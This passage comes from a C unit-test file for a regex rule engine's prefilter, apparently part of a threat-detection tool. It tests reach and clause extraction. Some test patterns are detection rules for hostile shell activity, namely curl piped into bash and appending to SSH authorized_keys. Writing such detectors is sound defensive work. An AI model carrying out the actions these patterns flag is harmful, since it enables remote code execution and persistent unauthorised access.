	ck_assert_int_eq(pf_extract_clauses(pattern, strlen(pattern), &cl),
	    1);
	ck_assert_uint_gt(cl.v[0].nf, (size_t)clause_set);
	reach = cl.v[0].f[clause_set].reach;
	pf_clauses_free(&cl);
	return reach;
}

/* Exact reaches: a character takes up to 4 bytes, s k i 3, an ASCII
 * escape 1, assertions none; no bound past anything unbounded. */
START_TEST(test_pf_reach)
{
	ck_assert_uint_eq(reach_of("\\bcurl\\b", -1), 4);
	ck_assert_uint_eq(reach_of("curl", -1), 4);
	ck_assert_uint_eq(reach_of("kiss", -1), 12);
	ck_assert_uint_eq(reach_of("x.curl", -1), 9);
	ck_assert_uint_eq(reach_of("[ab]\\dcurl", -1), 12);
	ck_assert_uint_eq(reach_of("\\t\\.curl", -1), 6);
	ck_assert_uint_eq(reach_of("(?:foo|barbaz)\\d", -1), 6);
	ck_assert_uint_eq(reach_of("a{2,3}curl", -1), 7);
	ck_assert_uint_eq(reach_of("(?:curl){2,}", -1), 4);
	ck_assert_uint_eq(reach_of("(?:a|bc)?curl", -1), 6);
	/* zero width: lookarounds, anchors, \b */
	ck_assert_uint_eq(reach_of("(?<=x)curl", -1), 4);
	ck_assert_uint_eq(reach_of("(?<![\\d>&])>(?!>)", -1), 1);
	ck_assert_uint_eq(reach_of("^curl$", -1), 4);
	ck_assert_uint_eq(reach_of("(?:^|;)curl", -1), 5);
	/* the union of alternatives: the most of any */
	ck_assert_uint_eq(reach_of("\\bcurl\\b|x{3}wget", -1), 7);
	/* unbounded */
	ck_assert_uint_eq(reach_of("\\s+curl", -1), PF_NO_REACH);
	ck_assert_uint_eq(reach_of("^\\s*curl", -1), PF_NO_REACH);
	ck_assert_uint_eq(reach_of("(a)\\1curl", -1), PF_NO_REACH);
	ck_assert_uint_eq(reach_of("\\Xcurl", -1), PF_NO_REACH);
	ck_assert_uint_eq(reach_of("curl|.*wget", -1), PF_NO_REACH);
	/* \G: a search from an offset changes what matches */
	ck_assert_uint_eq(reach_of("\\Gcurl", -1), PF_NO_REACH);
	ck_assert_uint_eq(reach_of("curl|\\Gwget", 0), PF_NO_REACH);
	/* per clause set: the literal after an unbounded part has none,
	 * the one before it has its own */
	ck_assert_uint_eq(reach_of("\\bcurl\\b[^\\n]*https?://", 0),
	    PF_NO_REACH);
	ck_assert_uint_eq(reach_of("\\bcurl\\b[^\\n]*https?://", 1), 4);
	ck_assert_uint_eq(reach_of(">>?\\s*[\"']?\\S*authorized_keys", 1),
	    2);
}
END_TEST

/* Clauses of a few patterns: one per top-level alternative, the best two
 * sets of each. */
START_TEST(test_pf_clauses)
{
	struct pf_clauses cl;

	ck_assert_int_eq(pf_extract_clauses("curl[^|]*\\|\\s*bash", 18, &cl),
	    1);
	ck_assert_uint_eq(cl.n, 1);
	ck_assert_uint_eq(cl.v[0].nf, 2);
	ck_assert_str_eq(cl.v[0].f[0].v[0], "curl");
	ck_assert_str_eq(cl.v[0].f[1].v[0], "bash");
	pf_clauses_free(&cl);
	ck_assert_int_eq(pf_extract_clauses("ab.*cd|efg", 10, &cl), 1);
	ck_assert_uint_eq(cl.n, 2);
	ck_assert_uint_eq(cl.v[0].nf, 2);
	ck_assert_uint_eq(cl.v[1].nf, 1);
	ck_assert_str_eq(cl.v[1].f[0].v[0], "efg");
	pf_clauses_free(&cl);
	/* an alternative that knows nothing: no clauses at all */
	ck_assert_int_eq(pf_extract_clauses("abc|.*", 6, &cl), 0);
	ck_assert_uint_eq(cl.n, 0);
	/* the alternatives' text, and the leading options they share */
	ck_assert_int_eq(pf_extract_clauses("(?i)ab.*cd|efg", 14, &cl), 1);
	ck_assert_uint_eq(cl.n, 2);
	ck_assert_int_eq(cl.splittable, 1);
	ck_assert_uint_eq(cl.prefix_len, 4);
	ck_assert_uint_eq(cl.v[0].start, 0);
	ck_assert_uint_eq(cl.v[0].len, 10);
	ck_assert_uint_eq(cl.v[1].start, 11);
	ck_assert_uint_eq(cl.v[1].len, 3);
	pf_clauses_free(&cl);
	/* an option set mid-branch carries into the next: not splittable */
	ck_assert_int_eq(pf_extract_clauses("ab(?i)cd|efg", 12, &cl), 1);
	ck_assert_int_eq(cl.splittable, 0);
	pf_clauses_free(&cl);
	/* inside a group it stays there */
	ck_assert_int_eq(pf_extract_clauses("(?:a(?i)bc|de)|fgh", 18, &cl),
	    1);
	ck_assert_int_eq(cl.splittable, 1);
	ck_assert_uint_eq(cl.prefix_len, 0);
	pf_clauses_free(&cl);
}
END_TEST

/*
 * What the engine's split search relies on: when the clauses say the
 * pattern is splittable, a subject matches it iff it matches one of its
 * alternatives compiled alone (the shared prefix before all but the
 * first).
 */
START_TEST(test_pf_split_random)
{
	pcre2_match_data *md = pcre2_match_data_create(1, NULL);
	int p, s, split = 0, matched = 0;

	ck_assert(md != NULL);
	for (p = 0; p < 6000; p++) {
		char pattern[512] = "", alt[600];
		struct pf_clauses cl;
		pcre2_code *code, *alts[64];
		size_t i;

		gen_regex(pattern, sizeof pattern, 0);
		if ((code = compile(pattern)) == NULL)
			continue;
		if (pf_extract_clauses(pattern, strlen(pattern), &cl) != 1 ||
		    cl.n < 2 || !cl.splittable || cl.n > 64) {
			pf_clauses_free(&cl);
			pcre2_code_free(code);
			continue;
		}
		split++;
		for (i = 0; i < cl.n; i++) {
			size_t pre = i == 0 ? 0 : cl.prefix_len;

			memcpy(alt, pattern, pre);
			memcpy(alt + pre, pattern + cl.v[i].start,
			    cl.v[i].len);
			alt[pre + cl.v[i].len] = '\0';
			alts[i] = compile(alt);
			ck_assert_msg(alts[i] != NULL, "/%s/: alternative "
			    "/%s/ does not compile", pattern, alt);
		}
		for (s = 0; s < 300; s++) {
			char subject[128];
			int whole, any = 0;

			random_subject(subject, pf_alphabet, PF_ALPHABET_N,
			    (int)rnd(12));
			whole = pcre2_match(code, (PCRE2_SPTR)subject,
			    strlen(subject), 0, 0, md, NULL) >= 0;
			for (i = 0; i < cl.n && !any; i++)
				any = pcre2_match(alts[i],
				    (PCRE2_SPTR)subject, strlen(subject), 0,
				    0, md, NULL) >= 0;
			ck_assert_msg(whole == any, "/%s/ on '%s': whole %d, "
			    "alternatives %d", pattern, subject, whole, any);
			matched += whole;
		}
		for (i = 0; i < cl.n; i++)
			pcre2_code_free(alts[i]);
		pf_clauses_free(&cl);
		pcre2_code_free(code);
	}
	ck_assert_int_gt(split, 100);
	ck_assert_int_gt(matched, 1000);
	pcre2_match_data_free(md);
}
END_TEST

static Suite *
rule_engine_suite(void)
{
	Suite *s = suite_create("rule_engine");
	TCase *tc = tcase_create("behaviour");
	TCase *pf = tcase_create("prefilter");
	/* whole-corpus and whole-Unicode sweeps: slow under valgrind */
	TCase *sweep = tcase_create("prefilter_sweeps");

	tcase_add_loop_test(tc, test_decnet_quirks, 0, N_CONFIGS);
	tcase_add_loop_test(tc, test_decnet_order_and_emits, 0, N_CONFIGS);
	tcase_add_loop_test(tc, test_aux_evidence, 0, N_CONFIGS);
	tcase_add_loop_test(tc, test_rule_order_paths, 0, N_CONFIGS);
	tcase_add_loop_test(tc, test_rule_order_after_swap, 0, N_CONFIGS);
	tcase_add_loop_test(tc, test_shared_filters, 0, N_CONFIGS);
	tcase_add_loop_test(tc, test_leading_group_parts, 0, N_CONFIGS);
	tcase_add_loop_test(tc, test_search_start_bound, 0, N_CONFIGS);
	tcase_add_loop_test(tc, test_necessary_tails, 0, N_CONFIGS);
	tcase_add_loop_test(tc, test_caret_split, 0, N_CONFIGS);
	tcase_add_loop_test(tc, test_tail_spares_search, 0, N_CONFIGS);
	tcase_add_loop_test(tc, test_non_string_field, 0, N_CONFIGS);
	tcase_add_loop_test(tc, test_default_fields, 0, N_CONFIGS);
	tcase_add_test(tc, test_max_subject_bytes);
	tcase_add_test(tc, test_bad_config);
	tcase_add_loop_test(tc, test_profile, 0, 2);
	tcase_add_loop_test(tc, test_invalid_pattern_rejected, 0, N_CONFIGS);
	tcase_add_loop_test(tc, test_catastrophic_pattern, 0, N_CONFIGS);
	tcase_add_loop_test(tc, test_search_time_limit, 0, 2);
	tcase_add_loop_test(tc, test_unicode, 0, N_CONFIGS);
	suite_add_tcase(s, tc);
	tcase_add_test(pf, test_pattern_items);
	tcase_add_test(pf, test_pattern_group_refs);
	tcase_add_test(pf, test_pattern_start_anchor);
	tcase_add_test(pf, test_pattern_leading_alternatives);
	tcase_add_test(pf, test_pattern_shortest);
	tcase_add_test(pf, test_pattern_drop_carets);
	tcase_add_test(pf, test_pf_extract);
	tcase_add_test(pf, test_pf_extract_boundaries);
	tcase_add_test(pf, test_pf_scan_boundaries);
	tcase_add_test(pf, test_pf_wide_automaton);
	tcase_add_test(pf, test_pf_scan_suffixes);
	tcase_add_test(pf, test_pf_naive_random);
	tcase_add_test(pf, test_pf_clauses);
	tcase_add_test(pf, test_pf_clauses_random);
	tcase_add_test(pf, test_pf_split_random);
	tcase_add_test(pf, test_pf_superset_random);
	tcase_add_test(pf, test_pf_last_random);
	tcase_add_test(pf, test_pf_first_random);
	tcase_add_test(pf, test_pf_reach);
	suite_add_tcase(s, pf);
	tcase_add_test(sweep, test_pf_superset_decnet);
	tcase_add_test(sweep, test_pf_fold_table_complete);
	suite_add_tcase(s, sweep);
	return s;
}

int
main(void)
{
	SRunner *sr = srunner_create(rule_engine_suite());
	int failed;

	log_set_level(TTPD_LOG_WARNING);        /* keep the log readable */

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}

